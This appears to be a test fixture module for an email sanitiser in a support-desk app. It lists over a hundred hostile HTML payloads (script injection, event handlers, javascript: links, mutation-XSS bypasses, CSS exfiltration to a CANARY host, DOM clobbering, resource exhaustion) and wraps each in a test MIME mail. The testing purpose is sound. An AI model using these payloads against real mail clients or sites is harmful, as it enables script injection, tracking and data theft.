// Mails that mean harm: each a fragment of HTML with what it tries. CANARY stands for a server that must never be asked,
// FLAG() for what must never run. Gathered from the families that the histories of browsers and sanitisers know; one line
// each, so that a new one is a new line.
const FLAG = 'top.hacked=1';
const inEntities = [...FLAG].map((c) => `&#${c.charCodeAt(0)};`).join('');
const inBase64 = (text) => Buffer.from(text.replaceAll('FLAG()', FLAG)).toString('base64');
const deep = (n, open, close = '') => open.repeat(n) + 'core' + close.repeat(n);

export const vectors = {
  // scripts
  'script': '<script>FLAG()</script>',
  'script src': '<script src="CANARY/x.js"></script>',
  'script, odd case and slash': '<ScRiPt/x>FLAG()</sCrIpT>',
  'script, torn': '<scr<script>ipt>FLAG()</scr</script>ipt>',
  'script in noscript': '<noscript><p title="</noscript><img src=x onerror=FLAG()>"></noscript>',
  'script, NUL within': '<scr\0ipt>FLAG()</scr\0ipt>',
  'script type module': '<script type=module>FLAG()</script>',
  'script, no end': '<script>FLAG()//',
  'script after a comment that does not end': '<!--><script>FLAG()</script>-->',
  'script after --!>': '<!-- x --!><script>FLAG()</script>',
  'xml data island': '<xml id=x><a><![CDATA[<script>FLAG()</script>]]></a></xml>',
  'conditional comment': '<!--[if gte IE 4]><script>FLAG()</script><![endif]-->',
  // handlers
  'img onerror': '<img src=x onerror=FLAG()>',
  'img onerror, slashes for blanks': '<img/src=x/onerror=FLAG()>',
  'img onerror, backquotes': '<img src=`x` onerror=`FLAG()`>',
  'img onerror, entities': `<img src=x onerror="${inEntities}">`,
  'body onload': '<body onload=FLAG() onpageshow=FLAG() onfocus=FLAG()>',
  'svg onload': '<svg onload=FLAG()></svg>',
  'details ontoggle': '<details open ontoggle=FLAG()><summary>x</summary></details>',
  'autofocus onfocus': '<input autofocus onfocus=FLAG()><select autofocus onfocus=FLAG()><textarea autofocus onfocus=FLAG()></textarea>',
  'animation handlers': '<style>@keyframes k{from{color:red}to{color:blue}}</style><p style="animation:k 1ms" onanimationstart=FLAG() onanimationend=FLAG()>x</p>',
  'transition handler': '<p style="transition:color 1ms" ontransitionend=FLAG() onpointerrawupdate=FLAG() onbeforetoggle=FLAG()>x</p>',
  'video onerror': '<video src=x onerror=FLAG()><source onerror=FLAG()></video><audio src onloadstart=FLAG()>',
  'marquee onstart': '<marquee onstart=FLAG() loop=1>x</marquee>',
  'scroll handler': '<div onscroll=FLAG() onscrollend=FLAG() style="overflow:scroll;height:9px"><br><br><br><br><a id=z>x</a></div>',
  'popover': '<button popovertarget=p>x</button><div id=p popover onbeforetoggle=FLAG()>y</div>',
  'content-visibility': '<p style="content-visibility:auto" oncontentvisibilityautostatechange=FLAG()>x</p>',
  // addresses that are programs
  'javascript link': '<a href="javascript:FLAG()" id=go>go</a>',
  'javascript link, tab within': '<a href="java&#9;script:FLAG()">go</a><a href="&#1;javascript:FLAG()">go</a><a href="java\nscript:FLAG()">go</a>',
  'vbscript and data links': '<a href="vbscript:FLAG()">go</a><a href="data:text/html,<script>FLAG()</script>">go</a>',
  'javascript image': '<img src="javascript:FLAG()"><img lowsrc="javascript:FLAG()"><img dynsrc="javascript:FLAG()">',
  'javascript in table and body': '<table background="javascript:FLAG()"><td background="javascript:FLAG()"></table><body background="javascript:FLAG()">',
  'svg link': '<svg><a xlink:href="javascript:FLAG()"><text y=20>go</text></a></svg>',
  'svg animate href': '<svg><a><animate attributeName=href values="javascript:FLAG()"/><text y=20>go</text></a></svg>',
  'svg set': '<svg><set attributeName=onmouseover to="FLAG()"/></svg>',
  'svg use data': `<svg><use href="data:image/svg+xml;base64,${inBase64('<svg id="x" xmlns="http://www.w3.org/2000/svg" onload="FLAG()"/>')}#x"/></svg>`,
  'math link': '<math><maction actiontype=statusline xlink:href="javascript:FLAG()">go</maction></math><math href="javascript:FLAG()">go</math>',
  'area and form actions': '<map name=m><area shape=rect coords="0,0,99,99" href="javascript:FLAG()"></map><img usemap="#m" width=99 height=99 src="cid:logo"><isindex action="javascript:FLAG()">',
  // frames, objects
  'iframe srcdoc': '<iframe srcdoc="<script>parent.FLAG()</script>"></iframe>',
  'iframe': '<iframe src="CANARY/frame"></iframe><iframe src="javascript:FLAG()"></iframe>',
  'object and embed': '<object data="CANARY/o"></object><object data="javascript:FLAG()"></object><embed src="CANARY/e"><applet code=x archive="CANARY/a">',
  'frameset': '<frameset onload=FLAG()><frame src="CANARY/f"></frameset>',
  'portal and fenced frame': '<portal src="CANARY/p"></portal><fencedframe src="CANARY/ff"></fencedframe>',
  'template with shadow root': '<div><template shadowrootmode=open><img src=x onerror=FLAG()><img src="CANARY/shadow"></template></div>',
  // the document itself
  'meta refresh': '<meta http-equiv=refresh content="0;url=CANARY/refresh">',
  'meta refresh to data': '<meta http-equiv=refresh content="0;url=data:text/html,<script>FLAG()</script>">',
  'meta set-cookie and csp': '<meta http-equiv=Set-Cookie content="kept_session=x"><meta http-equiv=Content-Security-Policy content="script-src *">',
  'base': '<base href="CANARY/"><img src=pixel.gif><a href=x>relative</a>',
  'base target': '<base target="_top"><a href="https://shop.example/">x</a>',
  'html manifest': '<html manifest="CANARY/m"><p>x</p></html>',
  'import map': '<script type=importmap>{"imports":{"a":"CANARY/im.js"}}</script><script type=speculationrules>{"prefetch":[{"source":"list","urls":["CANARY/sr"]}]}</script>',
  // loading without a script
  'image': '<img src="CANARY/1.gif"><img src="//CANARYHOST/2.gif"><img srcset="CANARY/3.gif 1x"><input type=image src="CANARY/4.gif">',
  'picture': '<picture><source srcset="CANARY/5.gif"><img src="cid:logo"></picture>',
  'image, backslashes': '<img src="\\\\CANARYHOST/6.gif"><img src="/\\CANARYHOST/7.gif"><img src="http:CANARYHOST/8.gif">',
  'image, blanks before': '<img src="  \n CANARY/9.gif"><img src="\tCANARY/10.gif">',
  'svg image': '<svg><image href="CANARY/11.gif"/><image xlink:href="CANARY/12.gif"/><filter id=f><feImage href="CANARY/13.svg"/></filter><rect filter="url(CANARY/14.svg#f)"/></svg>',
  'video and audio': '<video poster="CANARY/15.gif" src="CANARY/v" autoplay></video><audio src="CANARY/a" autoplay></audio><track src="CANARY/t" default>',
  'backgrounds': '<table background="CANARY/16.gif"><tr background="CANARY/17.gif"><td background="CANARY/18.gif">x</table><body background="CANARY/19.gif">',
  'links': ['stylesheet', 'preload', 'prefetch', 'dns-prefetch', 'preconnect', 'icon', 'modulepreload', 'prerender', 'manifest', 'import', 'apple-touch-icon']
    .map((rel) => `<link rel="${rel}" as=image href="CANARY/link-${rel}">`).join(''),
  'link header by meta': '<meta http-equiv=Link content="<CANARY/lh>; rel=preload; as=image"><meta http-equiv="x-dns-prefetch-control" content=on><a href="CANARY/dns">x</a>',
  'ping': '<a href="https://shop.example/" ping="CANARY/ping">x</a>',
  'attribution': '<img src="cid:logo" attributionsrc="CANARY/attr"><a attributionsrc="CANARY/attr2" href="#">x</a>',
  // style
  'style import': '<style>@import "CANARY/i1.css";@import url(CANARY/i2.css);@import url("CANARY/i3.css") screen;</style>',
  'style import, escaped': '<style>@\\69mport "CANARY/i4.css";@im/**/port "CANARY/i5.css";</style>',
  'style url': '<style>p{background:url(CANARY/u1)}q{background:u\\72l("CANARY/u2")}b{content:url(\'CANARY/u3\')}i{cursor:url(CANARY/u4),auto}li{list-style-image:url(CANARY/u5)}</style><p>x<q>y</q><b>z</b><i>w</i></p><ul><li>1</ul>',
  'style url in attributes': '<p style="background:url(CANARY/u6)">x</p><p style="background:\\75\\72\\6c(CANARY/u7)">x</p><p style="background:url(&quot;CANARY/u8&quot;)">x</p><p style="background-image:image-set(\'CANARY/u9\' 1x)">x</p><p style="background:-webkit-image-set(\'CANARY/u10\' 1x)">x</p>',
  'style image-set, cross-fade, src()': '<style>p{background:image-set("CANARY/s1" 1x)}q{background:-webkit-cross-fade(url(CANARY/s2),url(CANARY/s3),50%)}b{background:src("CANARY/s4")}i{background:image("CANARY/s5")}</style><p>x<q>y</q><b>z</b><i>w</i>',
  'style font': '<style>@font-face{font-family:f;src:url(CANARY/f1)}p{font-family:f}</style><p>x</p>',
  'style variables': '<style>:root{--a:url(CANARY/v1)}p{background:var(--a)}</style><p>x</p>',
  'style expression and behaviour': '<p style="width:expression(FLAG());behavior:url(CANARY/b.htc);-moz-binding:url(CANARY/b.xml#x)">x</p>',
  'style, attribute leak': '<style>input[value^=a]{background:url(CANARY/leak-a)}</style><input value=abc>',
  'style, namespace and charset': '<style>@charset "utf-7";@namespace url(CANARY/ns);p{color:red}</style>',
  'style, torn end': '<style>p{}</styl<!---->e><img src=x onerror=FLAG()></style><img src=x onerror=FLAG()>',
  'style in svg': '<svg><style>@import "CANARY/svgi.css";*{fill:url(CANARY/svgu)}<img src=x onerror=FLAG()></style></svg>',
  'style that covers the page': '<style>html,body,*{position:fixed!important;inset:0;z-index:2147483647;background:red}</style><p>over everything</p>',
  'clip path and mask': '<p style="clip-path:url(CANARY/cp#a);mask:url(CANARY/mk);filter:url(CANARY/fl#a);border-image:url(CANARY/bi) 1;shape-outside:url(CANARY/so)">x</p>',
  // mutation: what the sanitiser reads is not what the page parses
  'mutation: math, mglyph, style': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=FLAG()&gt;">',
  'mutation: form, math': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=FLAG()>',
  'mutation: svg, p, style': '<svg></p><style><a id="</style><img src=1 onerror=FLAG()>">',
  'mutation: svg, foreignObject': '<svg><foreignObject><p><style><!--</style><img src=x onerror=FLAG()>--></style></p></foreignObject></svg>',
  'mutation: annotation-xml': '<math><annotation-xml encoding="text/html"><style><img src=x onerror=FLAG()></style></annotation-xml></math>',
  'mutation: title, noembed, xmp, plaintext': '<svg><title><style><img src=x onerror=FLAG()></title></svg><noembed><img src=x onerror=FLAG()></noembed><xmp><p title="</xmp><img src=x onerror=FLAG()>"></xmp><plaintext><img src=x onerror=FLAG()>',
  'mutation: select and template': '<select><template><style></select><img src=x onerror=FLAG()></style></template></select>',
  'mutation: textarea': '<textarea><p title="</textarea><img src=x onerror=FLAG()>">',
  'mutation: CDATA': '<svg><![CDATA[><img src=x onerror=FLAG()>]]></svg><![CDATA[<img src=x onerror=FLAG()>]]>',
  'mutation: processing instruction': '<?xml version="1.0"?><?xml-stylesheet href="CANARY/xsl"?><?php <img src=x onerror=FLAG()> ?>',
  'mutation: attribute names': '<p a="><img src=x onerror=FLAG()>" b=\'"><img src=x onerror=FLAG()>\' `"=x>x</p>',
  'mutation: nested forms and tables': '<table><form><table></form><style><img src=x onerror=FLAG()></style></table></table>',
  'mutation: desc, mi, mo': '<math><mi><table><mi><b title="</mi><img src=x onerror=FLAG()>"></b></mi></table></mi></math><svg><desc><img src=x onerror=FLAG()></desc></svg>',
  'mutation: body in body': '<p><body/onload=FLAG()><html/onload=FLAG()></p>',
  // clobbering
  'clobbering': '<form id=body><input name=parentNode><input name=attributes><input name=nodeName></form><img name=getElementById><a id=documentElement></a><img name=implementation><form name=childNodes></form><img id=ownerDocument name=querySelector>',
  'is, slot, part': '<p is="x-y" slot=main part=p exportparts=p>x</p><x-y onclick=FLAG()>custom</x-y>',
  // letters
  'full-width and odd blanks': '<a href="ｊavascript:FLAG()">x</a><img src=x onerror\u00a0=FLAG()><img\u2028src=x\u2028onerror=FLAG()><img src=x onerror\x0b=FLAG()>',
  'right-to-left override': '<a href="https://evil.example/">\u202ehttps://bank.example\u202c</a>\u2066\u2067\u2069',
  'UTF-7': '+ADw-script+AD4-FLAG()+ADw-/script+AD4-',
  'byte order marks and surrogates': '\ufeff<img src=x onerror=FLAG()>\ufeff&#xd800;&#xdfff;&#0;&#x110000;',
  'entity without an end': '<img src=x onerror&#61FLAG()><a href="jav&#x61script&#58FLAG()">x</a>',
  // cid and our own addresses
  'cid tricks': '<img src="cid:logo"><img src="cid:../../sign-out"><img src="cid:%2e%2e/%2e%2e/sign-out"><img src="cid:__proto__"><img src="cid:constructor"><img src="CID:\nlogo">',
  'our own addresses': '<img src="/sign-out"><form method=post action="/sign-out"><button>x</button></form><a href="/admin/agents">x</a><link rel=stylesheet href="/assets/app.css"><script src="/assets/app.js"></script><img src="/account">',
  'opener and target': '<a id=out href="https://shop.example/" target=_top>top</a><a href="https://shop.example/" target=_parent rel=opener>parent</a><form target=_top action="CANARY/form"><input type=submit id=submit></form>',
  'data images': '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'FLAG()\'><image href=\'CANARY/d\'/></svg>"><img src="data:text/html,<script>FLAG()</script>">',
  'blob and filesystem': '<img src="blob:CANARY/x"><a href="filesystem:CANARY/x">x</a><a href="intent://x#Intent;end">x</a><a href="file:///etc/passwd">x</a>',
  // sheer size: what would keep the browser busy is not shown
  'nesting': deep(100_000, '<div>'),
  'nesting of what is closed': deep(20_000, '<b><i>', '</i></b>'),
  'nesting of tables': deep(5_000, '<table><tr><td>'),
  'nesting of svg and math': deep(3_000, '<svg><foreignObject><math><mtext>'),
  'a hundred thousand elements': '<p>x'.repeat(100_000),
  'as much as a long newsletter': '<table><tr><td><p>x</p></td></tr></table>'.repeat(2000),
  'fifty thousand attributes': `<p ${Array.from({ length: 50_000 }, (_, i) => `a${i}=1`).join(' ')}>x</p>`,
  'a large attribute': `<img src=x title="${'A'.repeat(5_000_000)}" onerror=FLAG()>`,
  'large style': `<style>${'p{color:red}'.repeat(100_000)}</style><p>x</p>`,
  'many entities': '&lt;'.repeat(300_000),
};

export const notShown = ['nesting', 'nesting of what is closed', 'nesting of tables', 'nesting of svg and math', 'a hundred thousand elements', 'fifty thousand attributes'];

// A mail with one of them, behind a line that must be readable, and with a picture of its own (cid:logo).
export function hostileMail(name, { canary, boundary = 'b' } = {}) {
  const html = `<p>Readable line</p>${vectors[name]}`.replaceAll('FLAG()', FLAG).replaceAll('CANARYHOST', canary.replace(/^http:\/\//, '')).replaceAll('CANARY', canary);
  const lines = Buffer.from(html).toString('base64').replace(/.{76}/g, '$&\r\n');
  return [`From: Mallory <mal@customer.test>`, 'To: support@kept.test', `Subject: ${name}`, `Message-ID: <hostile-${Object.keys(vectors).indexOf(name)}@customer.test>`, 'MIME-Version: 1.0',
    `Content-Type: multipart/related; boundary="${boundary}"`, '', `--${boundary}`, 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64', '', lines,
    `--${boundary}`, 'Content-Type: image/png', 'Content-ID: <logo>', 'Content-Transfer-Encoding: base64', 'Content-Disposition: inline; filename="logo.png"', '',
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', `--${boundary}--`, ''].join('\r\n');
}
